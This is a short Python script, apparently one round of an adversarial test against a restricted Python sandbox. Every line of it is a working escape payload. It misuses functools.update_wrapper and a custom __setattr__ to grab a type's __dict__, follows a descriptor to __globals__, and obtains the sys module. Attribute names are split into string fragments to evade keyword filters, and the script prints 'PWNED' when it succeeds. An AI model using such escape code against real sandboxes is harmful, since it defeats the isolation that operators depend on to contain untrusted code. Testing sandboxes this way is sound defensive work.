# adversary round 6: functools.update_wrapper(assigned=('__dict__',)) reads the function TYPE's __dict__ (mappingproxy, not library_refused), wrapper's own __setattr__ captures it; getset descriptor __get__ -> __globals__ -> sys
import functools, dataclasses
box = []
class W:
    def __setattr__(self, name, value):
        box.append(value)
functools.update_wrapper(W(), type(dataclasses.fields), assigned=('__di' + 'ct__',), updated=())
proxy = box[0]
print(type(proxy).__name__)
desc = proxy['__glo' + 'bals__']
g = desc.__get__(dataclasses.fields)
s = g['s' + 'ys']
print("got", type(s).__name__, s.__name__)
if s.__name__ == 's' + 'ys':
    print("PWN" + "ED", s.getrecursionlimit())
